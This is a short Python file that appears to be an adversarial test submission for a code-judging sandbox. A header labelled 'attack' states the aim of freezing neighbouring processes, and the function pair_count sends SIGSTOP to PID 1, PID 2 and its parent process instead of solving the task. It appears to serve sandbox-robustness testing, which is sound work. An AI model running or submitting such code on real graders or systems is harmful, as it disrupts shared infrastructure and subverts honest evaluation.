# /// attack
# aim = "Stops the processes around it without killing them, so that everybody waits."
# outcome = ["WA"]
# naive = "unproven: the parent is the first process of the jail, which ignores this from inside"
# [elsewhere]
# wasm = ["RTE"]
# ///

import os
import signal


def pair_count(numbers, target):
    for process in (1, 2, os.getppid()):
        try:
            os.kill(process, signal.SIGSTOP)
        except OSError:
            continue
    return -1
